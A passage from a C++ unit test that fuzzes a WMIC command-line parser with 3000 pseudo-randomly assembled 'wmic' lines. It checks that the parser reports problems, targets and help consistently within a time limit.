      L"/format:", L"/value", L"/?", L"/all", L"\"", L"'", L"\\\"", L"\\", L"(", L")", L",", L";", L"=", L"a=1",
      L"name='x'", L"name=\"y\"", L"%", L"^", L"\u00e9", L"&H80000002", L"*", L" ", L"\t", L"/", L":"};
  unsigned state = 2024;
  const auto started = std::chrono::steady_clock::now();
  for (int round = 0; round < 3000; ++round) {
    std::wstring line = L"wmic";
    state = state * 1103515245u + 12345u;
    const unsigned count = (state >> 16) % 12;
    for (unsigned i = 0; i < count; ++i) {
      state = state * 1103515245u + 12345u;
      const unsigned pick = (state >> 16) % static_cast<unsigned>(std::size(pieces));
      line += ((state >> 8) & 1) ? L" " : L"";
      line += pieces[pick];
    }
    const WmicRequest request = ParseWmicCommandLine(line);
    const bool runs = request.problem.kind == WmicProblemKind::None;
    ASSERT_EQ(runs, request.problem.text.empty()) << line;
    if (runs && !request.interactive && request.help == WmicHelp::None) {
      ASSERT_NE(request.target.kind, WmicTargetKind::None) << line;
    }
  }
  EXPECT_LT(std::chrono::steady_clock::now() - started, std::chrono::seconds(20));
}

}  // namespace
